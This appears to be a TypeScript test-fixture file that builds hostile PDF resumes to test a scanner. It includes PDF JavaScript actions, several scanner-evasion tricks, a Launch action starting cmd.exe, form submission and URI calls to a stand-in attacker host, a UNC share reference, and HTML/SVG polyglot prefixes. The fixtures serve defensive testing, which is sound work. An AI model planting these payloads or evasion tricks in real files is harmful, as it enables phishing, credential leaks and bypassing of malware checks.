/** One resume for each way to put scripts and actions into a PDF, visible or hidden. */
import { deflateSync } from 'node:zlib';
import { contentsOf, type PdfObject, pdfOf, textObjects } from '#tests/resume-pdf.ts';
import { packedPdf, updatedPdf } from './packed.ts';
import type { Resume } from './resume.ts';

const TEXT = 'Hari Thapa';
const FAR = 'https://attacker.example/';
/** Opens a dialog and tries to open a page. */
const JS = `<</S/JavaScript/JS(app.alert\\("xss"\\);app.launchURL\\("${FAR}",true\\))>>`;

const hostile = (
  name: string,
  bytes: Resume['bytes'],
  text: string | undefined = TEXT,
): Resume => ({
  name,
  bytes,
  ...(text !== undefined && { text }),
});

const withParts = (name: string, catalog: string, page = '', more: PdfObject[] = []): Resume =>
  hostile(name, () => pdfOf([...textObjects([TEXT], catalog, page), ...more]));

const widget = (action: string) =>
  `/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(a)/F 4/Rect[0 0 595 842]/P 3 0 R${action}>>]`;

const link = (action: string) =>
  `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A ${action}>>]`;

const PACKED_SCRIPT: PdfObject = {
  dictionary: '/Type/ObjStm/N 1/First 5/Filter/FlateDecode',
  stream: deflateSync(`10 0 ${JS}`),
};

/** To a line-based search, this content stream seems to leave a string open. */
function behindOpenString(): Uint8Array<ArrayBuffer> {
  const objects = textObjects([TEXT], '/OpenAction 10 0 R');
  objects[3] = { dictionary: '', stream: `${contentsOf([TEXT])}\n%(` };
  const text = Buffer.from(pdfOf([...objects, '<<>>', JS])).toString('latin1');
  return new Uint8Array(
    Buffer.from(text.replace(/%\(\nendstream\nendobj\n/, '%( endstream endobj '), 'latin1'),
  );
}

/**
 * A search of the bytes does not find the name, because its letters are escaped in an object
 * stream.
 */
const asNumbers = JS.replace('/JavaScript', '/J#61v#61Scr#69pt').replace('/JS', '/#4a#53');

const hidden: Resume[] = [
  hostile('a script in packed objects', () =>
    packedPdf([...textObjects([TEXT], '/OpenAction 10 0 R'), '<<>>', JS]),
  ),
  hostile('a script in packed objects whose dictionary ends in /X(obj)', () =>
    packedPdf([...textObjects([TEXT], '/OpenAction 10 0 R'), '<<>>', JS], '/X(obj)'),
  ),
  hostile('a script behind a content stream that ends in %(', behindOpenString),
  hostile('a script in packed objects, written in numbers', () =>
    packedPdf([...textObjects([TEXT], '/OpenAction 10 0 R'), '<<>>', asNumbers]),
  ),
  hostile('a script that a later version of the catalog starts', () =>
    updatedPdf(textObjects([TEXT]), { 1: `<</Type/Catalog/Pages 2 0 R/OpenAction ${JS}>>` }),
  ),
  hostile('a script in packed objects that no table names', () =>
    pdfOf([...textObjects([TEXT], '/OpenAction 10 0 R'), PACKED_SCRIPT]),
  ),
  hostile('a script in a file whose table of references is lost', () => {
    const text = Buffer.from(pdfOf(textObjects([TEXT], `/OpenAction ${JS}`))).toString('latin1');
    return new Uint8Array(Buffer.from(text.replace(/startxref\n\d+/, 'startxref\n0'), 'latin1'));
  }),
];

const stream = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("xss")</script></event></subform></template></xdp:xdp>`;

const inSight: Resume[] = [
  withParts('a script that opens with the file', `/OpenAction ${JS}`),
  withParts('a script for when the file is closed', `/AA<</WC ${JS}/WS ${JS}/WP ${JS}>>`),
  withParts('a script of its page', '', `/AA<</O ${JS}/C ${JS}>>`),
  withParts('a script in the tree of names', `/Names<</JavaScript<</Kids[9 0 R]>>>>`, '', [
    `<</Limits[(a)(a)]/Names[(a) ${JS}]>>`,
  ]),
  withParts('a button of no form, /A', '', widget(`/A ${JS}`)),
  withParts(
    'a button that its form does not list, /AA',
    '/AcroForm<</Fields[]>>',
    widget(`/AA<</E ${JS}/PO ${JS}/PV ${JS}>>`),
  ),
  withParts('a field of a form', '/AcroForm<</Fields[9 0 R]/CO[9 0 R]>>', '/Annots[9 0 R]', [
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 595 842]/AA<</F ${JS}/C ${JS}/K ${JS}>>>>`,
  ]),
  withParts('a script after a harmless step', `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[${JS}]>>`),
  withParts('a script in the outline', '/Outlines 9 0 R', '', [
    '<</Type/Outlines/First 10 0 R/Last 10 0 R/Count 1>>',
    `<</Title(Skills)/Parent 9 0 R/A ${JS}>>`,
  ]),
  withParts('an XFA form', '/AcroForm<</Fields[]/XFA 9 0 R>>/NeedsRendering true', '', [
    { dictionary: '', stream },
  ]),
  withParts('another document inside', `/OpenAction<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>`),
  withParts('a program to be started', `/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>`),
  withParts('a page elsewhere', `/OpenAction<</S/URI/URI(${FAR})>>`),
  withParts('a link that is a script', '', link('<</S/URI/URI(javascript:alert\\(1\\))>>')),
  withParts('a form that sends itself', `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${FAR})>>>>`),
  withParts('a document of a share', `/OpenAction<</S/GoToR/F(\\\\\\\\attacker.example\\\\a)>>`),
];

const polyglots: Resume[] = ['<script>alert(1)</script>', '<svg onload="alert(1)">'].map((start) =>
  hostile(`${start.slice(0, 7)} before it, and a script in it`, () => {
    const bytes = pdfOf(textObjects([TEXT], `/OpenAction ${JS}`));
    return Uint8Array.from([...Buffer.from(start), ...bytes]);
  }),
);

export const HOSTILE: readonly Resume[] = [...hidden, ...inSight, ...polyglots];
